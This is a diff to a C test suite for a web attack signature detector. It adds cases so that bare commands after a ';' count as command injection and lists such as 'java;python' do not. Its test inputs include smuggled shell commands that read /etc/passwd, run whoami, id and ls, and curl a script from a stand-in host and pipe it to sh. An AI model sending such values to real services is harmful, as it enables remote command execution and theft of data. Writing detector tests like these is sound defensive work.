@@ -168,6 +168,12 @@ Test(websig, traversal_inclusion_and_command_injection)
     FIRES("rce", "/ping", "host=127.0.0.1;cat%20/etc/passwd", NULL);
     FIRES("rce", "/ping", "host=x|whoami", NULL);
     FIRES("rce", "/cgi", "a=$(curl%20http://x.example/s.sh|sh)", NULL);
+    /* a command alone after a separator: only one that tells where the shell is; a
+     * list of languages separated by ';' is a list */
+    FIRES("rce", "/ping", "host=127.0.0.1;id", NULL);
+    FIRES("rce", "/ping", "host=x;ls", NULL);
+    QUIET("/posts", "tags=java;python;go;ruby", NULL);
+    QUIET("/posts", "langs=php;perl", NULL);
 }
 
 Test(websig, code_injection_ssrf_and_tools)
